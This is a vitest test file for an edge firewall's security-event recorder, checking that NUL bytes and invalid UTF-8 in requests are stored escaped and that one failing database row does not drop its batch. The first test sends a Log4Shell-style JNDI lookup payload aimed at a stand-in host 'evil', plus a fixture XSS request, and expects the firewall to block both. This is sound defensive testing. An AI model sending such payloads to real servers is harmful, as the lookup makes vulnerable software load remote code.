import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EdgeRequest } from '../src/engine/request.ts';
import type { RuleEvent } from '../src/engine/verdict.ts';
import { EventRecorder, type Zone } from '../src/index.ts';
import { ATTACKS, deployManaged, type ProxyFixture, startProxyFixture } from './proxy-fixture.ts';

// Security events can't be lost to request content: text PostgreSQL can't store is escaped, and one row
// that fails can't take the rest of its batch with it.
let f: ProxyFixture;
let zone: Zone;

beforeAll(async () => {
  f = await startProxyFixture();
  zone = await f.zone('events-nul.example.com', 'enterprise', 'complete');
  await deployManaged(f, zone.id);
}, 60_000);
afterAll(() => f?.close());

const ray = (headers: Record<string, unknown>) => String(headers['cf-ray']).slice(0, 16);

/** A recorder of its own (no timer: one flush writes one batch), counting into the app's metrics. */
const ownRecorder = () =>
  new EventRecorder(
    { ...f.edge.deps, metrics: f.deps.metrics },
    { ...f.edge.recorder.options, flushMs: 60_000 },
  );

/** What the proxy hands the recorder about a request. */
const request = (rayId: string, rawHeaders: string[] = []) =>
  ({
    rayId,
    ip: '127.0.0.1',
    method: 'GET',
    host: 'events-nul.example.com',
    httpVersion: '1.1',
    timestamp: f.deps.clock.now().getTime(),
    rawHeaders,
  }) as unknown as EdgeRequest;

async function metric(name: string): Promise<string> {
  return (await f.deps.metrics.registry.getSingleMetricAsString(name)) ?? '';
}

describe('security events with bytes PostgreSQL cannot store', () => {
  it('a NUL-bearing attack and an XSS sent in the same batch both appear, the NUL shown as \\x00', async () => {
    const [nul, xss] = await Promise.all([
      f.send('events-nul.example.com', '/form', {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: Buffer.from(['a=$', '{jndi:ldap://evil/a}\x00zz'].join(''), 'latin1'),
      }),
      f.send('events-nul.example.com', ATTACKS.xss!.path),
    ]);
    expect(nul.status).toBe(403);
    expect(xss.status).toBe(403);
    const nulEvents = await f.events(zone.id, `?ray_id=${ray(nul.headers)}`);
    const xssEvents = await f.events(zone.id, `?ray_id=${ray(xss.headers)}`);
    expect(nulEvents.length).toBeGreaterThan(0);
    expect(xssEvents.length).toBeGreaterThan(0);
    const values = nulEvents.flatMap((e) => (e.matches as { value: string }[]).map((m) => m.value));
    expect(values.some((v) => v.includes('\\x00zz'))).toBe(true);
    expect(values.every((v) => !v.includes('\u0000'))).toBe(true);
    expect(await metric('cairn_edge_security_events_repaired_total')).toMatch(/how="escaped"\} [1-9]/);
  });

  it('request bytes are read as UTF-8, invalid sequences, NUL and lone surrogates stored as \\xHH', async () => {
    const recorder = ownRecorder();
    // Node gives the request line as one character per byte: "café" in UTF-8, then a lone 0xFF byte.
    recorder.record(
      zone.id,
      request('aaaaaaaaaaaaaaaa', ['User-Agent', 'ua\u0000x']),
      '/p\u0000th',
      'q=caf\xc3\xa9&b=\xff\xc3',
      [
        {
          source: 'firewallCustom',
          action: 'block',
          waf: null,
          phase: 'http_request_firewall_custom',
          rulesetId: null,
          ruleId: 'r1',
          description: 'desc \udc00 end',
          matchedData: [{ name: 'ARGS:\u0000', value: 'v\u0000\ud83d' }],
        },
      ],
    );
    await recorder.flush();
    const [event] = await f.events(zone.id, '?ray_id=aaaaaaaaaaaaaaaa');
    expect(event).toMatchObject({
      path: '/p\\x00th',
      query: 'q=café&b=\\xff\\xc3',
      ua: 'ua\\x00x',
      rule_message: 'desc \\xed\\xb0\\x80 end',
      matches: [{ name: 'ARGS:\\x00', value: 'v\\x00\\xed\\xa0\\xbd' }],
    });
  });

  it('a row that fails on its own is dropped and counted; the others of its batch are stored', async () => {
    const recorder = ownRecorder();
    const event: RuleEvent = {
      source: 'firewallCustom',
      action: 'block',
      waf: null,
      phase: null,
      rulesetId: null,
      ruleId: 'r1',
      description: '',
      matchedData: [],
    };
    recorder.record(zone.id, request('bbbbbbbbbbbbbbb1'), '/', '', [event]);
    // A row PostgreSQL refuses whatever its text (here a constraint of this test's database says so).
    await f.deps.db.query(
      "ALTER TABLE edge_security_events ADD CONSTRAINT poison CHECK (ray_id <> 'bbbbbbbbbbbbbbb2')",
    );
    recorder.record(zone.id, request('bbbbbbbbbbbbbbb2'), '/', '', [event]);
    recorder.record(zone.id, request('bbbbbbbbbbbbbbb3'), '/', '', [event]);
    const failedBefore = /outcome="failed"\} (\d+)/.exec(await metric('cairn_edge_security_events_total'));
    await recorder.flush();
    expect(await f.events(zone.id, '?ray_id=bbbbbbbbbbbbbbb1')).toHaveLength(1);
    expect(await f.events(zone.id, '?ray_id=bbbbbbbbbbbbbbb3')).toHaveLength(1);
    const failedAfter = /outcome="failed"\} (\d+)/.exec(await metric('cairn_edge_security_events_total'));
    expect(Number(failedAfter?.[1])).toBe(Number(failedBefore?.[1] ?? 0) + 1);
    expect(await metric('cairn_edge_security_events_repaired_total')).toMatch(/how="isolated"\} [1-9]/);
  });
});
